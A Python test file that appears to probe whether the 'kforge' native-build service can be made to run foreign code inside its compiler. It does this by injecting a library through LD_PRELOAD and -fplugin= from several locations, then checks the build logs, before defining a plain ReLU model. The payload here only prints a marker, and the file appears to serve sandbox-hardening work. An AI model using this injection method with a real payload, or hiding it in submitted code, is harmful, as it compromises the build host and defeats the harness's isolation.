"""LD_PRELOAD-style loading into the compiler kforge runs for it: builds a library whose constructor
announces itself, then asks for a build that loads it, first by setting LD_PRELOAD for the build,
then with `-fplugin=` naming the library where it lies in the cache, on its tmpfs and in its own
folder. Where the constructor ran in the compiler, its announcement is in the build log."""

import os
import shutil

import torch
import torch.nn as nn

from kforge_worker import native

RELU = r"""
#include <cstdint>
extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
"""
PAYLOAD = r"""
#include <cstdio>
__attribute__((constructor)) static void announce() { fputs("kforge-payload-loaded\n", stderr); }
extern "C" int payload_version() { return 1; }
"""
_payload = native.load(PAYLOAD, name="payload")._name  # built by kforge, now in the read-only cache
_copies = [_payload]
for _dir in ("/tmp", os.environ["KFORGE_WORKDIR"]):
    _copies.append(shutil.copy(_payload, os.path.join(_dir, "payload.so")))

_answers = []
os.environ["LD_PRELOAD"] = _payload
for _n, _flags in enumerate([[]] + [["-fplugin=" + p] for p in _copies]):
    try:
        # A build that always fails, so that its log comes back.
        native.load(f"#error probe {_n}\n", name=f"victim{_n}", cflags=_flags)
    except native.CompileError as e:
        if "kforge-payload-loaded" in e.log:
            break
        _why = [ln.strip() for ln in e.log.splitlines() if "plugin" in ln or "cannot open" in ln]
        _answers.append(" ".join(_why)[-300:] or f"{_flags}: no announcement")
else:
    raise RuntimeError("attack blocked: the compiler never loaded the library: " + " | ".join(_answers))
del os.environ["LD_PRELOAD"]
_lib = native.load(RELU, {"relu": [native.PTR, native.PTR, native.I64]})


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
